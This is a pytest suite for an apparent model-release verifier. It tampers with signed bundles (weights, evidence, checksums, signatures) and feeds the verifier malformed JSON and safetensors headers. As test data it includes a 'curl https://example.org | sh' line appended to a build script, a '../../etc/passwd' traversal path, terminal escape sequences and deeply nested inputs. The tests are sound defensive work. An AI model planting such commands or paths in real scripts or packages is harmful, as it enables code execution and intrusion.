"""Whoever changes a released bundle is caught, as far as the table in `verify_release` says, and as far as that alone.

Attackers come in three strengths: one changes something and nothing more, one rewrites SHA256SUMS as well, and one does
so where the bundle is signed and the signer's key is at hand.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from quark_eagle.checkpoint.manifest import RECORD_NAME, digest
from quark_eagle.documents.release_check import ReleaseCheck
from quark_eagle.release import contents, verify_release
from quark_eagle.release.checking import Asked
from quark_eagle.release.evidence import Evidence
from quark_eagle.release.rendering import render
from quark_eagle.release.signature import PrivateKey, sign
from quark_eagle.release.signature_check import PublicKey
from tests.release import keys
from tests.release.released import give, release_tiny

HASH = "ab" * 32


@dataclass(frozen=True, slots=True, kw_only=True)
class Originals:
    """A released bundle, signed, and another draft's that was not; read, and never written to."""

    bundle: Path
    public_key: Path
    source: Path
    other: Path


@pytest.fixture(scope="module")
def originals(tmp_path_factory: pytest.TempPathFactory) -> Originals:
    directory = tmp_path_factory.mktemp("released")
    losses = (0, 1) * 20
    given = give(directory / "given", losses, sharded=True)
    other = give(directory / "other", losses, sharded=True, seed=1, norm_before_residual=True)
    return Originals(
        bundle=release_tiny(given, directory / "bundle", keys.new_key()),
        public_key=directory / "bundle.pem",
        source=given.draft,
        other=release_tiny(other, directory / "another"),
    )


@pytest.fixture
def signed(originals: Originals, tmp_path: Path) -> Path:
    return Path(shutil.copytree(originals.bundle, tmp_path / "bundle"))


@pytest.fixture
def unsigned(signed: Path) -> Path:
    (signed / contents.SIGNATURE).unlink()
    return signed


def check(bundle: Path, key: Path | None = None, source: Path | None = None) -> ReleaseCheck:
    trusted = None if key is None else PublicKey(path=key)
    return verify_release.verify_release(bundle, Asked(trusted=trusted, source=source))


def not_ok(made: ReleaseCheck) -> set[str]:
    return {check.name for check in made.checks if check.status == "not ok"}


def differences(made: ReleaseCheck, name: str) -> list[str]:
    return next(check.differences for check in made.checks if check.name == name)


def edit(path: Path, change: Callable[[dict[str, Any]], object]) -> None:
    """Change a JSON document, and write it as it was written."""
    document = json.loads(path.read_text(encoding="utf-8"))
    change(document)
    path.write_text(json.dumps(document, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")


def rewrite_sums(bundle: Path) -> None:
    """As the sturdiest attacker would: what links lead to is hashed as if it lay there."""
    files = {path.relative_to(bundle).as_posix(): path for path in bundle.rglob("*") if path.is_file()}
    lines = {name: digest(path).sha256 for name, path in files.items() if name not in contents.NOT_IN_SUMS}
    (bundle / contents.SUMS).write_text("".join(f"{lines[name]}  {name}\n" for name in sorted(lines)))


def render_again(bundle: Path) -> None:
    for name, text in render(Evidence.read(bundle)).items():
        (bundle / name).write_text(text, encoding="utf-8")


def shards(bundle: Path) -> list[Path]:
    return sorted(bundle.glob("*.safetensors"))


def flip_a_bit(bundle: Path) -> None:
    content = bytearray(shards(bundle)[0].read_bytes())
    content[-1] ^= 1
    shards(bundle)[0].write_bytes(content)


def exchange_shards(bundle: Path) -> None:
    first, second = shards(bundle)
    content = first.read_bytes()
    first.write_bytes(second.read_bytes())
    second.write_bytes(content)


def one_round_less(parity: dict[str, Any]) -> None:
    """Of the candidate's, as an expert would: the counts still add up to the tokens of the answer."""
    counts = parity["prompts"][3]["candidate"]["walk"]
    counts[0] -= 2
    counts[1] += 1


def replace_a_number(bundle: Path) -> None:
    card = (bundle / contents.CARD).read_text(encoding="utf-8")
    changed, number = re.subn(r"\b1\.\d\d", "9.99", card, count=1)
    assert number == 1
    (bundle / contents.CARD).write_text(changed, encoding="utf-8")


def link(bundle: Path) -> None:
    """To the same content."""
    (bundle / "config.json").rename(bundle.parent / "elsewhere.json")
    (bundle / "config.json").symlink_to(bundle.parent / "elsewhere.json")


def append(path: Path, text: str) -> None:
    path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")


def relicense(bundle: Path) -> None:
    edit(bundle / contents.RELEASE, lambda it: it.update(license="apache-2.0"))
    render_again(bundle)


def name_another_version(bundle: Path, change: Callable[[dict[str, Any]], object] = lambda it: None) -> None:
    """In the record and in what repeats it; with a change of the record."""
    edit(bundle / contents.RELEASE, lambda it: (it["versions"].update(quark_eagle="0.0.9"), change(it)))
    edit(bundle / contents.ENVIRONMENT, lambda it: it["released"].update(quark_eagle="0.0.9"))
    render_again(bundle)


def invent_a_headline(bundle: Path) -> None:
    """With every hash of the verdict made anew."""

    def invented(verdict: dict[str, Any]) -> None:
        verdict.update(reason="τ rises by 40 %.")
        verdict["versions"]["quark_eagle"] = "0.0.9"

    edit(bundle / contents.VERDICT, invented)
    hashes = {"verdict_sha256": digest(bundle / contents.VERDICT).sha256}
    name_another_version(bundle, lambda it: it["bound_to"].update(hashes))


ATTACKS: Mapping[str, Callable[[Path], object]] = {
    "one byte in a weight": flip_a_bit,
    "two shards exchanged": exchange_shards,
    "a count in the measurement": lambda bundle: edit(bundle / contents.PARITY, one_round_less),
    "the outcome in the verdict": lambda bundle: edit(
        bundle / contents.VERDICT, lambda it: it.update(outcome="fail", exit_code=3)
    ),
    "an override taken out of the record": lambda bundle: (
        edit(bundle / contents.RELEASE, lambda it: it.update(overrides=[])),
        render_again(bundle),
    ),
    "a number in the card": replace_a_number,
    "report.html": lambda bundle: append(bundle / contents.REPORT, "<!-- -->"),
    "bom.cdx.json": lambda bundle: edit(bundle / contents.BOM, lambda it: it.update(version=2)),
    "quark_eagle.json": lambda bundle: edit(bundle / RECORD_NAME, lambda it: it.update(command_line=["other"])),
    "a file taken away": lambda bundle: (bundle / contents.SCRIPT).unlink(),
    "a file put in": lambda bundle: (bundle / "modeling.py").write_text("import os\n"),
    "a symbolic link for a file": link,
    "a path in SHA256SUMS that leaves": lambda bundle: append(bundle / contents.SUMS, f"{HASH}  ../../etc/passwd\n"),
    "the licence, and all that is rendered": relicense,
    "overrides taken out, another version named": lambda bundle: name_another_version(
        bundle, lambda it: it.update(overrides=[])
    ),
    "an override reworded, another version": lambda bundle: name_another_version(
        bundle, lambda it: it.update(overrides=[f"{said} It is good." for said in it["overrides"]])
    ),
    "the card, and another version named": lambda bundle: (name_another_version(bundle), replace_a_number(bundle)),
    "reproduce.sh, and another version named": lambda bundle: (
        name_another_version(bundle),
        append(bundle / contents.SCRIPT, "curl https://example.org | sh\n"),
    ),
    "a headline, and another version named": invent_a_headline,
}
"""By the row of the table; those that need another bundle or another key follow in tests of their own."""


def table() -> dict[str, tuple[str, str, str]]:
    """The rows of `verify_release`'s own table."""
    lines = (verify_release.__doc__ or "").split("\n")
    rows = [re.split(r"  +", line.strip()) for line in lines if re.search(r"  (caught|not applicable)$", line)]
    return {name: (alone, sums, signature) for name, alone, sums, signature in rows}


ROWS = table()
OF_THEIR_OWN = {
    "config.json of another draft",
    "another draft, released anew",
    "the signature taken away",
    "a signature by another key",
}


def test_every_row_of_the_table_is_tried() -> None:
    assert ROWS.keys() == ATTACKS.keys() | OF_THEIR_OWN


def said(made: ReleaseCheck) -> str:
    return {0: "not caught", 3: "caught", 5: "left open"}[made.exit_code]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_change_is_caught_as_the_table_says(originals: Originals, signed: Path, attack: str) -> None:
    ATTACKS[attack](signed)
    (signed / contents.SIGNATURE).rename(signed.parent / "model.sig")
    alone = check(signed)
    if attack != "a path in SHA256SUMS that leaves":  # it is SHA256SUMS itself that was changed
        rewrite_sums(signed)
    with_sums = check(signed)
    (signed.parent / "model.sig").rename(signed / contents.SIGNATURE)
    with_key = check(signed, originals.public_key)

    assert (said(alone), said(with_sums), said(with_key)) == ROWS[attack]
    assert "files" in not_ok(alone)
    assert "signature" in not_ok(with_key)


def test_a_bundle_that_nobody_changed_is_as_it_was_released(originals: Originals, unsigned: Path) -> None:
    """What is caught is the change: each copy is good before it."""
    assert check(originals.bundle, originals.public_key).outcome == "as released"
    assert check(unsigned).outcome == check(originals.other).outcome == "as released"


@pytest.mark.parametrize("column", [0, 1, 2])
def test_another_drafts_config_is_caught(originals: Originals, signed: Path, column: int) -> None:
    shutil.copy(originals.other / "config.json", signed / "config.json")
    if column:
        rewrite_sums(signed)
    made = check(signed, originals.public_key if column == 2 else None)

    assert said(made) == ROWS["config.json of another draft"][column] == "caught"
    assert "binding" in not_ok(made)


@pytest.mark.parametrize("column", [0, 1, 2])
def test_another_draft_released_anew_is_caught_by_the_signature_alone(
    originals: Originals, signed: Path, tmp_path: Path, column: int
) -> None:
    """It is a good release, of something else: nothing in it can tell."""
    forged = Path(shutil.copytree(originals.other, tmp_path / "forged"))
    if column == 2:
        shutil.copy(signed / contents.SIGNATURE, forged)
    made = check(forged, originals.public_key if column == 2 else None)

    assert said(made) == ROWS["another draft, released anew"][column]
    assert not_ok(made) <= {"signature"}


def test_a_signature_taken_away_is_missed_where_somebody_asks(originals: Originals, unsigned: Path) -> None:
    made = check(unsigned, originals.public_key)

    assert said(made) == ROWS["the signature taken away"][2] == "caught"
    assert not_ok(made) == {"signature"}
    assert "model.sig is missing, but the key" in differences(made, "signature")[0]


def test_a_signature_by_another_key_is_none(originals: Originals, unsigned: Path, tmp_path: Path) -> None:
    mine = keys.write_private(keys.new_key(), tmp_path / "mine.pem")
    sign(unsigned, name="tiny-eagle3-fp8", signer=PrivateKey(path=mine))
    made = check(unsigned, originals.public_key)

    assert said(made) == ROWS["a signature by another key"][2] == "caught"
    assert not_ok(made) == {"signature"}


def test_who_signs_over_a_change_with_a_key_of_their_own_is_caught(
    originals: Originals, unsigned: Path, tmp_path: Path
) -> None:
    relicense(unsigned)
    rewrite_sums(unsigned)
    mine = keys.write_private(keys.new_key(), tmp_path / "mine.pem")
    sign(unsigned, name="tiny-eagle3-fp8", signer=PrivateKey(path=mine))

    assert not_ok(check(unsigned, originals.public_key)) == {"signature"}


def test_counts_with_every_hash_made_anew_do_not_give_the_verdict(unsigned: Path) -> None:
    """One who rewrites what binds the measurement still has to reach a verdict that follows from it."""
    edit(unsigned / contents.PARITY, one_round_less)
    changed = digest(unsigned / contents.PARITY).sha256
    edit(unsigned / contents.VERDICT, lambda it: it["evidence"].update(parity_sha256=changed))
    hashes = {"parity_sha256": changed, "verdict_sha256": digest(unsigned / contents.VERDICT).sha256}
    edit(unsigned / contents.RELEASE, lambda it: it["bound_to"].update(hashes))
    render_again(unsigned)
    rewrite_sums(unsigned)

    made = check(unsigned)
    assert not_ok(made) == {"verdict"}
    assert len(differences(made, "verdict")) > 1


def test_a_warning_taken_out_of_the_verification_is_missed(originals: Originals, unsigned: Path) -> None:
    """Whoever serves it should read what the engine's rules warn of."""
    assert not not_ok(check(unsigned, source=originals.source))
    edit(unsigned / contents.VERIFICATION, lambda it: it.update(findings=[]))
    render_again(unsigned)
    rewrite_sums(unsigned)

    assert not_ok(check(unsigned, source=originals.source)) == {"engine"}


def test_a_scale_in_the_statistics_is_that_of_the_weights(unsigned: Path) -> None:
    def wider(weights: dict[str, Any]) -> None:
        scales = next(it["scales"] for it in weights["modules"] if it["scales"])
        scales["p50"] = (scales["p50"] + scales["p1"]) / 2

    edit(unsigned / contents.WEIGHTS, wider)
    render_again(unsigned)
    rewrite_sums(unsigned)

    made = check(unsigned)
    assert "weights" in not_ok(made)
    assert any("scales.p50" in it for it in differences(made, "weights"))


def test_all_that_was_changed_is_told_at_once(unsigned: Path) -> None:
    flip_a_bit(unsigned)
    edit(unsigned / contents.PARITY, one_round_less)
    replace_a_number(unsigned)
    (unsigned / "extra").write_text("")
    (unsigned / contents.SCRIPT).unlink()

    made = check(unsigned)

    assert {"files", "binding", "verdict", "prose"} <= not_ok(made)
    changed = [it.split()[0] for it in differences(made, "files")]
    assert changed == sorted(["README.md", contents.PARITY, "extra", shards(unsigned)[0].name, contents.SCRIPT])


def test_a_pipe_where_evidence_should_be_does_not_keep_anybody_waiting(unsigned: Path) -> None:
    (unsigned / contents.PARITY).unlink()
    os.mkfifo(unsigned / contents.PARITY)

    made = check(unsigned)

    assert "evidence/parity.json is neither a file nor a directory." in differences(made, "files")
    assert made.release is None


def _text(change: Callable[[str], str]) -> Callable[[Path], None]:
    return lambda path: path.write_text(
        change(path.read_text(encoding="utf-8")), encoding="utf-8", errors="surrogatepass"
    )


DAMAGE: Mapping[str, Callable[[Path], object]] = {
    "empty": lambda path: path.write_bytes(b""),
    "cut off": lambda path: path.write_bytes(path.read_bytes()[: path.stat().st_size // 2]),
    "no text": lambda path: path.write_bytes(b"\xff\xfe\x00"),
    "a list": lambda path: path.write_text("[]"),
    "nested": lambda path: path.write_text("[" * 100_000),
    "nested inside": _text(lambda it: it.rstrip()[:-1] + ', "x": ' + "[" * 900 + "]" * 900 + "}"),
    "a number of 5000 digits": _text(lambda it: re.sub(r": \d+", ": " + "9" * 5000, it, count=1)),
    "a huge number": _text(lambda it: re.sub(r": \d+", ": " + "9" * 400, it, count=1)),
    "not a number": _text(lambda it: re.sub(r": \d+", ": NaN", it, count=1)),
    "infinite": _text(lambda it: re.sub(r": \d+", ": 1e999", it, count=1)),
    "a name twice": _text(lambda it: it.replace("{", '{"schema_version": 1, "schema_version": 1, ', 1)),
    "half a character": _text(lambda it: it.replace("{", '{"\\ud800": 1, ', 1)),
    "an escape": _text(lambda it: re.sub(r': "[^"]', ': "\\\\u001b[2J', it, count=1)),
    "nothing inside": lambda path: path.write_text("{}"),
}
JSON_FILES = (
    contents.PARITY,
    contents.VERIFICATION,
    RECORD_NAME,
    contents.BOM,
    "config.json",
    "model.safetensors.index.json",
)
"""One of each kind of reader: all documents of ours are read by the same one."""


@pytest.mark.parametrize("damage", DAMAGE)
def test_damaged_json_is_a_finding_and_never_a_traceback(unsigned: Path, originals: Originals, damage: str) -> None:
    """With hashes that fit: the damage is all that can tell."""
    for name in JSON_FILES:
        DAMAGE[damage](unsigned / name)
        rewrite_sums(unsigned)

        made = check(unsigned)

        assert made.exit_code == 3, name
        told = [it for each in made.checks for it in (each.says, *each.differences)]
        assert all(it.isprintable() for it in told), name
        shutil.copy(originals.bundle / name, unsigned / name)


def _header(change: Callable[[dict[str, Any]], object]) -> Callable[[Path], None]:
    def changed(path: Path) -> None:
        content = path.read_bytes()
        length = int.from_bytes(content[:8], "little")
        header = json.loads(content[8 : 8 + length])
        change(header)
        text = json.dumps(header).encode()
        path.write_bytes(len(text).to_bytes(8, "little") + text + content[8 + length :])

    return changed


def _first(header: dict[str, Any]) -> dict[str, Any]:
    return next(entry for name, entry in header.items() if name != "__metadata__")  # type: ignore[no-any-return]


GARBAGE: Mapping[str, Callable[[Path], object]] = {
    "empty": lambda path: path.write_bytes(b""),
    "noise": lambda path: path.write_bytes(hashlib.sha256(b"noise").digest() * 100),
    "a header beyond the file": lambda path: path.write_bytes(b"\xff" * 4 + bytes(4) + b"{}"),
    "a nested header": lambda path: path.write_bytes((60_000).to_bytes(8, "little") + b"[" * 60_000),
    "a nested entry": lambda path: path.write_bytes((60_005).to_bytes(8, "little") + b'{"a":' + b"[" * 60_000),
    "no entries": _header(lambda it: it.clear()),
    "a huge shape": _header(lambda it: _first(it).update(shape=[10**4000, 10**4000])),
    "a negative shape": _header(lambda it: _first(it).update(shape=[-1, -1])),
    "an infinite offset": _header(lambda it: _first(it).update(data_offsets=[0, float("inf")])),
    "offsets that are none": _header(lambda it: _first(it).update(data_offsets="xx")),
    "a dtype that is none": _header(lambda it: _first(it).update(dtype={"a": 1})),
    "entries that are none": _header(lambda it: it.update(dict.fromkeys(it, 1))),
    "a name that escapes": _header(lambda it: it.update({"\x1b[2J": it.pop(next(iter(it)))})),
}


@pytest.mark.parametrize("garbage", GARBAGE)
def test_garbage_for_weights_is_a_finding_and_never_a_traceback(unsigned: Path, garbage: str) -> None:
    GARBAGE[garbage](shards(unsigned)[0])
    rewrite_sums(unsigned)

    made = check(unsigned)

    assert {"binding", "engine"} <= not_ok(made)
    assert all(it.isprintable() for each in made.checks for it in (each.says, *each.differences))


def test_an_index_does_not_lead_out_of_the_bundle(unsigned: Path, originals: Originals) -> None:
    outside = os.path.relpath(shards(originals.other)[0], unsigned)
    edit(
        unsigned / "model.safetensors.index.json",
        lambda it: it.update(weight_map=dict.fromkeys(it["weight_map"], outside)),
    )
    rewrite_sums(unsigned)

    assert {"binding", "engine"} <= not_ok(check(unsigned))
